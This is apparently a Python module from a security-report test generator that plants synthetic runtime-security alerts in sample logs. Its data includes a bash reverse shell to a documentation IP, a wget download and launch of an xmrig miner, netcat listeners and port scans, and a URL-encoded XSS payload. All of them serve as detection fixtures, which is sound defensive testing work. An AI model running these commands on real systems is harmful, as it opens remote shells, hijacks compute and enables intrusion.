"""Planted events: the lines the dashboards look for, present whatever the sample size.

Times are given in hours before the end of the window (wrapped into shorter windows), so most
stories fall within the last 24 hours, where the dashboards look by default.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from reportgen.sample import vocab
from reportgen.sample.clock import Window
from reportgen.sample.events import Denied, Violation, burst, process_msg
from reportgen.sample.hosts import Container, Host
from reportgen.sample.timefmt import NS

# hours ago, process path, parent, command: token-`nc` process violations on the cto host
NC_LINES = (
    (5.1, "/bin/nc", "/bin/bash", "nc -zv 10.128.0.12 22"),
    (9.8, "/bin/nc.openbsd", "/bin/bash", "nc -lvnp 9001"),
    (13.4, "/bin/nc", "/bin/sh", "nc 10.0.2.15 8080"),
    (20.2, "/bin/nc", "/bin/bash", "nc -l -p 4444"),
    (30.5, "/bin/nc", "/bin/sh", "nc -u 10.0.2.15 53"),
    (51.0, "/bin/nc", "/bin/bash", "nc -zv 10.128.0.12 1-1024"),
    (75.3, "/bin/nc", "/bin/sh", "nc -l -p 31337"),
    (100.7, "/bin/nc", "/bin/bash", "nc 203.0.113.7 4444"),
    (129.9, "/bin/nc", "/bin/sh", "nc -l -p 4444"),
)
# process violations on the cto host where "nc" occurs only inside other words
NEAR_MISS_LINES = (
    (3.3, "/bin/sync", "/bin/sh", "sync"),
    (7.7, "/usr/bin/ncat", "/bin/bash", "ncat --listen 8443"),
    (15.5, "/usr/local/bin/nc2", "/bin/bash", "nc2 -v 10.0.2.15 80"),
    (22.0, "/usr/bin/rsync", "/bin/sh", "rsync -az /srv/data backup-1:/srv/"),
    (60.0, "/bin/sync", "/bin/sh", "sync"),
)
# hours ago, host role, command, user, rule, quoted
DENIED = (
    (1.2, "web", "docker_exec", "alice", "no-exec", True),
    (6.5, "web", "container_create", "bob", "devs_rule", True),
    (11.0, "web", "image_pull", "Carol", "Deny - deny all docker.io images", True),
    (16.4, "web", "container_delete", "dave", "prod-readonly", True),
    (19.9, "web", "docker_exec", "Eve", "no-exec", True),
    (3.9, "stage", "image_push", "svc-ci", "ci", True),
    (12.2, "stage", "container_list", "admin", "Deny", False),
    (27.0, "stage", "container_create", "admin", "Deny - deny all docker.io images.", False),
    (40.1, "stage", "docker_exec", "bruce@example.com", "devs_rule", True),
)
MINER = "/tmp/.X11-unix/xmrig"
MINER_CMD = f"{MINER} -o stratum+tcp://xmr.pool-example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN1 -p x"
REVERSE_SHELL = (
    "/bin/bash is a reverse shell . Full command: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
)
Step = tuple[int, str, str, str]  # seconds after the story's start, kind, message, effect
MINER_STORY: tuple[Step, ...] = (
    (
        0,
        "Process",
        process_msg("/usr/bin/wget", "/bin/sh", f"wget -q -O {MINER} http://198.51.100.77/xmrig"),
        "alert",
    ),
    (3, "Filesystem", f"/usr/bin/wget wrote suspicious file to {MINER}", "alert"),
    (
        9,
        "Process",
        f"{MINER} launched and is identified as a crypto miner. Full command: {MINER_CMD}",
        "prevent",
    ),
    (11, "Network", "Outbound connection to an unexpected port: 3333 IP: 198.51.100.77", "alert"),
)
SHELL_STORY: tuple[Step, ...] = (
    (0, "Process", REVERSE_SHELL, "prevent"),
    (2, "Network", "Outbound connection to an unexpected port: 4444 IP: 203.0.113.7", "prevent"),
)
LISTEN_STORY: tuple[Step, ...] = (
    (0, "Process", process_msg("/bin/nc", "/bin/sh", "nc -l -p 4444"), "alert"),
    (3, "Network", "Process /bin/nc is listening on unexpected port 4444", "alert"),
)
SSHD_EDIT = "/usr/bin/vi wrote to SSH configuration file /etc/ssh/sshd_config"
CURL_DENIED = (
    "Outbound connection /usr/bin/curl to IP 198.51.100.23 is explicitly denied by a runtime rule"
)
PULL_DENIED = (
    "ERROdefender.go:1410  Failed to pull image docker.io/library/alpine:edge: Error response "
    "from daemon: pull access denied for docker.io/library/alpine:edge, repository does not "
    "exist or may require 'docker login'"
)


@dataclass
class Plan:
    """What is planted on one host: violations and denials (written to both formats), plus extra
    Go bodies (level + rest) and syslog bodies (after `time=`), each with its time."""

    violations: list[Violation] = field(default_factory=list)
    denied: list[Denied] = field(default_factory=list)
    go: list[tuple[int, str]] = field(default_factory=list)
    syslog: list[tuple[int, str]] = field(default_factory=list)

    def count(self) -> tuple[int, int]:
        """Planted lines in (the Go log, syslog)."""
        both = len(self.violations) + len(self.denied)
        return both + len(self.go), both + len(self.syslog)


def incident(host: Host, c: Container, category: str) -> str:
    """Syslog body of a container incident."""
    extra = f' account_id="123456789012" cluster="{host.cluster}"' if host.cluster else ""
    return (
        f'type="incident" container_id="{c.id}" image_name="{c.image}" host="{host.name}" '
        f'incident_category="{category}"{extra}'
    )


def hostile_waas(c: Container) -> str:
    """The WAAS audit whose message carries an XSS payload (the report must show it as text)."""
    return (
        f'type="container_app_firewall_audit" container_id="{c.id}" container_name="{c.name}" '
        f'image_name="{c.image}" effect="alert" msg="{vocab.HOSTILE_XSS}" log_type="xss" '
        'source_ip="203.0.113.50" source_country="NL" connecting_ips="203.0.113.50" '
        'request_method="GET" request_user_agents="Mozilla/5.0 (X11; Linux x86_64)" '
        'request_host="shop.example.com" '
        'request_url="shop.example.com/search?q=%3Cscript%3Ealert(%27x%27)%3C%2Fscript%3E" '
        'request_path="/search" request_query="q=%3Cscript%3Ealert(%27x%27)%3C%2Fscript%3E" '
        'request_header_names="User-Agent,Accept,Cookie" status_code="403"'
    )


def roles(hosts: list[Host]) -> dict[str, Host]:
    """Which host plays which part; with fewer than four hosts, parts are doubled up."""
    return {
        "web": hosts[0],
        "db": hosts[1] if len(hosts) > 1 else hosts[0],
        "stage": hosts[2] if len(hosts) > 2 else hosts[-1],
        "cto": hosts[3] if len(hosts) > 3 else hosts[-1],
    }


def _story(plan: Plan, start: int, container: Container, steps: tuple[Step, ...]) -> None:
    for offset, kind, msg, effect in steps:
        plan.violations.append(Violation(start + offset * NS, kind, container, "", msg, effect))


def plan_all(rng: random.Random, window: Window, hosts: list[Host], lines: int) -> dict[str, Plan]:
    """The planted events of every host, keyed by host name.

    Bursts of process violations (a compromised CI job) hold about `lines / 800` lines.
    """
    plans = {h.name: Plan() for h in hosts}
    part = roles(hosts)

    def at(hours: float) -> int:  # a little jitter, so that planted times look natural
        return max(window.start, window.ago(hours) - rng.randrange(50 * NS))

    cto, db, web, stage = part["cto"], part["db"], part["web"], part["stage"]
    box, dave = cto.containers[0], cto.containers[1 % len(cto.containers)]
    for hours, path, parent, command in NC_LINES + NEAR_MISS_LINES:
        msg = process_msg(path, parent, command)
        plans[cto.name].violations.append(Violation(at(hours), "Process", box, "", msg, "alert"))
    _story(plans[cto.name], at(2.5), box, LISTEN_STORY)
    shell = at(18.6)
    _story(plans[cto.name], shell, dave, SHELL_STORY)
    plans[cto.name].syslog.append((shell + 4 * NS, incident(cto, dave, "reverseShell")))

    job = db.containers[2 % len(db.containers)]
    mined = at(61.2)
    _story(plans[db.name], mined, job, MINER_STORY)
    plans[db.name].syslog.append((mined + 15 * NS, incident(db, job, "cryptoMiner")))

    plans[web.name].violations += [
        Violation(at(8.9), "Filesystem", None, "sshd", SSHD_EDIT, "alert"),
        Violation(at(10.3), "Network", web.containers[0], "", CURL_DENIED, "block"),
    ]
    plans[web.name].syslog.append((at(4.2), hostile_waas(web.containers[0])))
    plans[web.name].go.append((at(7.1), PULL_DENIED))
    for hours, role, command, user, rule, quoted in DENIED:
        plans[part[role].name].denied.append(Denied(at(hours), command, user, rule, quoted))

    size = min(max(lines // 800, 20), 2500)
    latest = window.end - 31 * 60 * NS
    plans[stage.name].violations += burst(rng, stage, min(at(13.7), latest), size)
    plans[db.name].violations += burst(rng, db, min(at(97.0), latest), size // 2)
    return plans
